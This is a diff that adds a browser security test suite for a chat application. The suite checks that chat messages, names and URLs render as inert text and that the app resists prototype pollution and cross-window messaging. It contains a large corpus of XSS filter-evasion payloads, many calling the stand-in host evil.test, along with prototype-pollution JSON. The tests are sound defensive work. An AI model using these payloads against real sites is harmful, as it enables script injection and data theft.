@@ -1,0 +1,256 @@
+"""Rows W in Chromium: what is written, named or sent to a window is shown, and never run."""
+
+import json
+from typing import Any, Final
+
+import pytest
+from playwright.async_api import Browser, Page, WebSocketRoute, expect
+
+from tests.browser.windows import line, live, say, window
+from tests.server import Node, Person
+
+pytestmark = [pytest.mark.anyio, pytest.mark.browser]
+
+RUN: Final = "window.wasRun=1,alert(1),fetch('//evil.test/')"
+TAGS: Final = (
+    *("<script>{0}</script>", "<ScRiPt >{0}</sCrIpT>", "<script src=//evil.test/x.js></script>"),
+    *("</script><script>{0}</script>", "<scr<script>ipt>{0}</scr</script>ipt>", "<script\x0b>{0}</script>"),
+    *(
+        "<img src=x onerror={0}>",
+        '<img src="x" onerror="{0}">',
+        "<img src=//evil.test/x.png>",
+        "<img/src/onerror={0}>",
+    ),
+    *(
+        "<svg onload={0}>",
+        "<svg/onload={0}>",
+        "<svg><script>{0}</script></svg>",
+        "<svg><animate onbegin={0}>",
+    ),
+    *("<body onload={0}>", "<iframe src=javascript:{0}>", "<iframe srcdoc='<script>{0}</script>'>"),
+    *(
+        "<iframe src=//evil.test/>",
+        "<object data=//evil.test/>",
+        "<embed src=//evil.test/>",
+        "<base href=//evil.test/>",
+    ),
+    *("<link rel=stylesheet href=//evil.test/x.css>", "<style>@import '//evil.test/x.css'</style>"),
+    *(
+        "<meta http-equiv=refresh content='0;url=//evil.test/'>",
+        "<form action=//evil.test/><input type=submit>",
+    ),
+    *("<input autofocus onfocus={0}>", "<select autofocus onfocus={0}>", "<textarea autofocus onfocus={0}>"),
+    *(
+        "<details open ontoggle={0}>",
+        "<video src=x onerror={0}>",
+        "<audio src=x onerror={0}>",
+        "<marquee onstart={0}>",
+    ),
+    *(
+        "<a href=javascript:{0}>x</a>",
+        "<a href='jav&#x09;ascript:{0}'>x</a>",
+        "<math href=javascript:{0}>x</math>",
+    ),
+    *(
+        "javascript:{0}",
+        "JaVaScRiPt:{0}",
+        "data:text/html,<script>{0}</script>",
+        "vbscript:{0}",
+        "//evil.test/x.png",
+    ),
+    *(
+        "[x](javascript:{0})",
+        "![x](//evil.test/x.png)",
+        "<https://evil.test/>",
+        "[x]: javascript:{0}",
+        "`<b>`{0}",
+    ),
+    *(
+        "'\"><img src=x onerror={0}>",
+        "';{0};//",
+        '";{0};//',
+        "${{{0}}}",
+        "{{{{{0}}}}}",
+        "#{{{0}}}",
+        "<%= {0} %>",
+    ),
+    *(
+        "--><script>{0}</script>",
+        "]]><script>{0}</script>",
+        "<!--<img src=x onerror={0}>-->",
+        "<![CDATA[<b>]]>",
+    ),
+    *(
+        "&lt;script&gt;{0}&lt;/script&gt;",
+        "\\u003cscript\\u003e{0}",
+        "%3Cscript%3E{0}%3C/script%3E",
+        "+ADw-script+AD4-",
+    ),
+    *("<x onclick={0}>x</x>", "<p style=background:url(//evil.test/)>", "<div style=width:expression({0})>"),
+    *(
+        "<noscript><p title='</noscript><img src=x onerror={0}>'>",
+        "<template><img src=x onerror={0}></template>",
+    ),
+    *(
+        "<table background=//evil.test/>",
+        "<isindex type=image src=1 onerror={0}>",
+        "<keygen autofocus onfocus={0}>",
+    ),
+    *("<svg><use href='data:image/svg+xml,<svg onload={0}>'/>", "<svg><image href=//evil.test/ /></svg>"),
+    *(
+        "<a ping=//evil.test/ href=#>x</a>",
+        "<a target=_blank href=//evil.test/>x</a>",
+        "<portal src=//evil.test/>",
+    ),
+    *("\u202e<script>{0}</script>", "\uff1cscript\uff1e{0}\uff1c/script\uff1e", "<\u0000script>{0}"),
+)
+CORPUS: Final = tuple(
+    dict.fromkeys(tag.format(run).replace("\0", "") for tag in TAGS for run in (RUN, "alert`1`"))
+)
+"""After OWASP's XSS filter evasion cheat sheet; each holds a call that would be seen, or an address not ours."""
+
+
+class Watch:
+    """What a window does that nothing written in it may make it do."""
+
+    def __init__(self, page: Page, node: Node) -> None:
+        self.seen: list[str] = []
+        page.on("dialog", lambda dialog: self.seen.append(dialog.message))
+        page.on("popup", lambda popup: self.seen.append(popup.url))
+        page.context.on("request", lambda request: self._look(request.url, node))
+        self._page = page
+
+    def _look(self, url: str, node: Node) -> None:
+        if not url.startswith((node.url, node.ws_url, "data:image/")):
+            self.seen.append(url)
+
+    async def has_seen_nothing(self) -> None:
+        assert not self.seen
+        assert not await self._page.evaluate("window.wasRun")
+
+
+async def write(person: Person, *bodies: str) -> None:
+    for number, body in enumerate(bodies):
+        answer = await person.http.post("/rooms/lobby/messages", json={"ref": f"x{number}", "body": body})
+        assert answer.status_code == 201, (body, answer.text)
+
+
+@pytest.fixture
+def settings() -> dict[str, Any]:
+    return {"sends_burst": 1_000, "rooms_per_minute": 1_000}
+
+
+@pytest.fixture
+async def patient_node(tmp_path: Any, settings: dict[str, Any]) -> Any:
+    from api.config import Settings  # noqa: PLC0415
+    from tests.server import running  # noqa: PLC0415
+
+    async with running(Settings(store=f"sqlite:///{tmp_path / 'tailwire.db'}", **settings)) as started:
+        yield started
+
+
+async def test_w5_what_is_written_is_shown_as_text_and_runs_nothing(
+    browser: Browser, patient_node: Node
+) -> None:
+    assert len(CORPUS) >= 100
+    page = await window(browser, patient_node, "alice", viewport={"width": 1300, "height": 900})
+    watch = Watch(page, patient_node)
+    eve = await patient_node.sign_up("eve")
+    await write(eve, *CORPUS, "the last of them")
+    await expect(line(page, "the last of them")).to_have_count(1)
+    await page.reload()
+    await expect(line(page, "the last of them")).to_have_count(1)
+    await watch.has_seen_nothing()
+
+
+async def test_w5_no_name_runs_anything(browser: Browser, patient_node: Node) -> None:
+    page = await window(browser, patient_node, "alice", viewport={"width": 1300, "height": 900})
+    watch = Watch(page, patient_node)
+    eve = await patient_node.sign_up("eve")
+    names = 0
+    for number, name in enumerate(CORPUS):
+        made = await eve.http.post("/rooms", json={"name": name[:80], "topic": name, "visibility": "public"})
+        shown = await eve.http.patch("/users/me", json={"display_name": name[:64]})
+        assert {made.status_code, shown.status_code} <= {200, 201, 422}
+        names += made.status_code == 201
+        if number % 10 == 0:
+            await write(eve, f"as {number}") if number == 0 else await eve.http.post(
+                "/rooms/lobby/messages", json={"ref": f"n{number}", "body": f"as {number}"}
+            )
+    assert names >= 80
+    await expect(line(page, "as 0")).to_have_count(1)
+    await page.goto(f"{patient_node.url}/#/rooms")
+    await expect(live(page)).to_be_visible()
+    await watch.has_seen_nothing()
+
+
+async def test_w5_no_address_runs_anything(browser: Browser, sqlite_node: Node) -> None:
+    page = await window(browser, sqlite_node, "alice")
+    watch = Watch(page, sqlite_node)
+    await page.evaluate(
+        "corpus => { for (const one of corpus) for (const before of ['', '/', '/rooms/', '/login?next='])"
+        " location.hash = before + one }",
+        list(CORPUS),
+    )
+    await page.goto(f"{sqlite_node.url}/#/rooms/lobby")
+    await say(page, "still here")
+    await expect(line(page, "still here")).to_have_count(1)
+    await watch.has_seen_nothing()
+
+
+async def test_w6_what_a_server_says_changes_no_prototype(browser: Browser, sqlite_node: Node) -> None:
+    poison = '"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},'
+
+    async def opened(socket: WebSocketRoute) -> None:
+        server = socket.connect_to_server()
+        server.on_message(lambda text: socket.send("{" + poison + str(text)[1:]))
+
+    context = await browser.new_context()
+    await context.route_web_socket("**/ws/messages", opened)
+    page = await context.new_page()
+    page.on("pageerror", lambda error: pytest.fail(f"the page failed: {error}"))
+
+    async def poisoned(route: Any) -> None:
+        answer = await route.fetch()
+        text = await answer.text()
+        is_object = (
+            "json" in answer.headers.get("content-type", "") and text.startswith("{") and len(text) > 2
+        )
+        await route.fulfill(response=answer, body="{" + poison + text[1:] if is_object else text)
+
+    for path in ("auth", "users", "rooms"):
+        await page.route(f"**/{path}/**", poisoned)
+    await page.goto(f"{sqlite_node.url}/#/signup")
+    await page.get_by_label("Username").fill("alice")
+    await page.get_by_label("Password", exact=True).fill("correct horse battery")
+    await page.get_by_role("button", name="Create account").click()
+    await expect(live(page)).to_be_visible()
+    await page.goto(f"{sqlite_node.url}/#/rooms/lobby")
+    await say(page, "hello")
+    await expect(line(page, "hello")).to_have_count(1)
+    assert await page.evaluate("[({}).polluted, [].polluted, (() => {}).polluted]") == [None] * 3
+
+
+async def test_w2_w4_w7_other_pages_reach_nothing_in_ours(browser: Browser, sqlite_node: Node) -> None:
+    page = await window(browser, sqlite_node, "alice")
+    watch = Watch(page, sqlite_node)
+    messages = [{"type": "logout"}, "javascript:alert(1)", {"__proto__": {"polluted": 1}}, RUN]
+    await page.evaluate(
+        f"for (const one of {json.dumps(messages)}) {{ postMessage(one, '*'); "
+        "new BroadcastChannel('tailwire').postMessage(one) }"
+    )
+    attempt = "(() => {{ try {{ {0}; return false }} catch {{ return true }} }})()"
+    for script in ("eval('1')", "new Function('1')()", "setTimeout('window.wasRun=1')"):
+        await page.evaluate(attempt.format(script))
+    assert await page.evaluate(attempt.format("Function('return 1')()"))
+    other = await page.context.new_page()
+    await other.goto("data:text/html,<title>evil</title>")
+    async with other.expect_popup() as opening:
+        await other.evaluate(f"window.held = window.open('{sqlite_node.url}/')")
+    popup = await opening.value
+    await popup.wait_for_load_state()
+    assert await other.evaluate("held.closed")  # COOP: who opened it holds nothing
+    assert await popup.evaluate("window.opener") is None
+    await say(page, "still here")
+    await expect(line(page, "still here")).to_have_count(1)
+    await watch.has_seen_nothing()
